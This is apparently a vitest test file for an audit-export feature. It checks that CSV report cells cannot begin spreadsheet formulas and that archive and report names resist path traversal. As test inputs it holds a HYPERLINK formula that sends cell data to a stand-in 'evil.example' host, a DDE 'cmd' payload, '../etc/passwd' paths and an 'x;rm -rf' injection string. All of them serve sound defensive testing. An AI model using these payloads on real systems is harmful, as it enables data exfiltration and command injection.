import { execFileSync } from 'node:child_process';
import { posix } from 'node:path';
import { expect, it } from 'vitest';
import { bundleName } from '../../store/export/exporter.ts';
import { anExecuting, comment, expectProblem, review, submit } from '../connectors/api/world.ts';
import { exportBundle, exportBytes } from '../helpers/bundle.ts';
import { startKeyturn } from '../helpers/start-keyturn.ts';
import { readCsv } from '../store/audit/reports/report-rows.ts';

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "=cmd|'/c calc'!A1",
  '+1+1',
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '"=1+1"',
];

it.each(FORMULAS)(
  'row 28: no cell of any report begins a formula when a requester writes %j',
  async (formula) => {
    const keyturn = await startKeyturn();
    const asked = await submit(keyturn, { reason: formula });
    await review(keyturn, 'bob', asked, 'reject', { comment: formula });
    const running = await anExecuting(keyturn, { reason: formula, payload: { other: 1 } });
    await comment(keyturn, 'alice', 'stop', running, { comment: formula });
    const bundle = await exportBundle(keyturn);
    let seen = 0;
    for (const name of bundle.names.filter((one) => one.endsWith('.csv'))) {
      for (const row of readCsv(bundle.read(name))) {
        for (const cell of Object.values(row)) {
          expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
          if (
            cell.includes('1+1') ||
            cell.includes('evil.example') ||
            cell.includes('cmd') ||
            cell.includes('2+3')
          )
            seen += 1;
        }
      }
    }
    // It is there for an auditor to see, and harmless.
    expect(seen).toBeGreaterThan(1);
  },
);

it('row 28: every name in the archive is built, and leads out of its folder for no system', async () => {
  const keyturn = await startKeyturn();
  await anExecuting(keyturn, {
    target: { system: 'postgres', environment: 'prod', resource: '../../../etc/passwd' },
  });
  const response = await exportBytes(keyturn);
  const input = Buffer.from(await response.arrayBuffer());
  const names = execFileSync('tar', ['-tzf', '-'], { input, encoding: 'utf8' }).trim().split('\n');
  for (const name of names) {
    expect(name).toMatch(/^audit-[A-Za-z0-9._-]+\/[a-zA-Z0-9./-]+$/);
    expect(posix.normalize(name)).toBe(name);
    expect(name).not.toMatch(/(^|\/)\.\.?(\/|$)/);
  }
  const kinds = execFileSync('tar', ['-tvzf', '-'], { input, encoding: 'utf8' }).trim().split('\n');
  expect(new Set(kinds.map((line) => line[0]))).toEqual(new Set(['-']));
});

it.each(['../../etc', 'a/../../b', '/etc/passwd', 'x\ny', 'x"y', '..', 'x;rm -rf'])(
  'row 28: a log that is called %j gives the archive a name that is only a name',
  (log) => {
    const name = bundleName({ origin: `${log}/1`, from: 0, to: 9 });
    expect(name).toMatch(/^audit-[A-Za-z0-9._-]+-0-9$/);
  },
);

it.each(['../../../etc/passwd', 'sample/../../x', 'SAMPLE', 'sample.csv', ''])(
  'row 28: a report that is called %j is refused, and names no file',
  async (name) => {
    const keyturn = await startKeyturn();
    expectProblem(await keyturn.post('carol', '/v1/audit/exports', { reports: [name] }), 'INVALID');
  },
);
